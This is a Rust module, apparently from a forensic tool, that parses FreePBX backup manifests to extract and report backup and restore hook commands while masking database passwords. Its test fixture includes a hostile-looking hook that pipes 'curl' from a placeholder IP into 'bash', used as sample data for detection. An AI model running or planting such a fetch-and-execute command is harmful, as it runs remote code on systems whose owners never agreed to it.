//! Commands that a backup of FreePBX 2.10 to 14 runs, by the manifest that is its first member.
//!
//! The manifest is PHP's `serialize()` of an array: `s:5:"hooks";a:4:{s:10:"pre_backup";s:0:"";...}`, lengths in bytes.
//! Only the part `hooks` is read: the rest holds passwords of databases.

use super::model::Problem;
use super::panel::BackupHook;
use super::read::Collector;
use crate::event::{Citation, Place};
use crate::evidence::{Evidence, Source};
use crate::secrets::masked;

/// A list of some thousand files is part of it.
const LARGEST: usize = 8 * 1024 * 1024;
/// Manifests read, and hooks kept of one.
const MOST_FILES: usize = 200;
const MOST_HOOKS: usize = 20;
/// Values within the part that are looked at.
const MOST_VALUES: usize = 200;
const KEY: &[u8] = b"s:5:\"hooks\";a:";

/// Returns whether a file is the manifest of a backup.
pub fn is_backup_manifest(path: &str, head: &[u8]) -> bool {
    path.rsplit('/').next() == Some("manifest")
        && head.starts_with(b"a:")
        && memchr::memmem::find(head, b"s:16:\"manifest_version\"").is_some()
}

/// Reads every manifest.
pub(super) fn read_all(evidence: &Evidence, collector: &mut Collector) {
    let manifests = evidence.sources.iter().filter(|source| {
        source.duplicate_of.is_none() && is_backup_manifest(&source.file.placed, &source.head)
    });
    for source in manifests.take(MOST_FILES) {
        match evidence.read_small(source, LARGEST) {
            Ok(bytes) => collector.pbx.panel.backup_hooks.extend(hooks(source, &bytes)),
            Err(error) => {
                let what = format!("cannot be read: {error}");
                collector.pbx.problems.push(Problem { path: source.file.path.clone(), what });
            }
        }
    }
}

fn hooks(source: &Source, bytes: &[u8]) -> Vec<BackupHook> {
    let Some(start) = memchr::memmem::find(bytes, KEY) else { return Vec::new() };
    let mut hooks = Vec::new();
    let (mut at, mut depth, mut name) = (start + KEY.len(), 0_usize, None::<&[u8]>);
    // Behind `a:`: the number of pairs and the brace.
    for _ in 0..MOST_VALUES {
        let rest = bytes.get(at..).unwrap_or_default();
        let Some(next) = rest.iter().position(|byte| b"s{}".contains(byte)) else { break };
        at += next + 1;
        match rest.get(next) {
            Some(b'{') => (depth, name) = (depth + 1, None),
            Some(b'}') if depth < 2 => break,
            Some(b'}') => (depth, name) = (depth - 1, None),
            _ => {
                let Some((text, length)) = text(bytes.get(at..).unwrap_or_default()) else { break };
                let place = Place { source: source.id, offset: (at - 1) as u64, line: 0 };
                at += length;
                match name.take().filter(|_| depth == 1) {
                    None => name = Some(text),
                    Some(when) if !text.trim_ascii().is_empty() => hooks.push(hook(when, text, place)),
                    Some(_) => {}
                }
            }
        }
        if hooks.len() >= MOST_HOOKS {
            break;
        }
    }
    hooks
}

/// Reads `:5:"hooks"` and returns the text with how long all of it is.
fn text(bytes: &[u8]) -> Option<(&[u8], usize)> {
    let digits = bytes.strip_prefix(b":")?;
    let end = digits.iter().position(|byte| *byte == b':')?;
    let length: usize = std::str::from_utf8(digits.get(..end)?).ok()?.parse().ok()?;
    let start = end.checked_add(3)?;
    let stop = start.checked_add(length)?;
    Some((bytes.get(start..stop)?, stop.checked_add(1)?))
}

fn hook(when: &[u8], command: &[u8], place: Place) -> BackupHook {
    let command = masked(&String::from_utf8_lossy(command)).into_owned();
    let when = String::from_utf8_lossy(when).into_owned();
    let told = format!("{when}: {command}");
    BackupHook { when, command, place: Citation::new(place, told.as_bytes()) }
}

#[cfg(test)]
mod tests {
    use super::super::tests::read_texts;

    const MANIFEST: &str = "a:4:{s:16:\"manifest_version\";i:10;s:5:\"mysql\";a:1:{i:0;a:1:{s:8:\"password\";s:8:\"hidden-1\";}}s:5:\"hooks\";a:4:{s:10:\"pre_backup\";s:0:\"\";s:11:\"post_backup\";s:45:\"curl -s http://192.0.2.1/s{x\";}s:1 | bash -x;\";s:11:\"pre_restore\";a:1:{i:0;s:1:\"x\";}s:12:\"post_restore\";s:26:\"mysqldump -phidden-2 cdr;x\";}s:4:\"date\";s:3:\"now\";}";

    #[test]
    fn commands_of_a_backup_are_read_and_nothing_else() {
        let pbx = read_texts(&[("backup/manifest", MANIFEST), ("other/manifest", "name: x\n")]);
        let told: Vec<(&str, &str)> =
            pbx.panel.backup_hooks.iter().map(|hook| (hook.when.as_str(), hook.command.as_str())).collect();
        assert_eq!(
            told,
            [
                ("post_backup", "curl -s http://192.0.2.1/s{x\";}s:1 | bash -x;"),
                ("post_restore", "mysqldump -p*** cdr;x")
            ]
        );
        assert!(!format!("{pbx:?}").contains("hidden-"));
    }

    proptest::proptest! {
        #![proptest_config(proptest::test_runner::Config::with_cases(64))]
        #[test]
        fn any_manifest_is_read(cut in 0_usize..400, junk in ".{0,40}") {
            let cut = (0..=cut.min(MANIFEST.len())).rev().find(|at| MANIFEST.is_char_boundary(*at)).unwrap_or(0);
            let _ = read_texts(&[("backup/manifest", &format!("{}{junk}", &MANIFEST[..cut]))]);
        }
    }
}
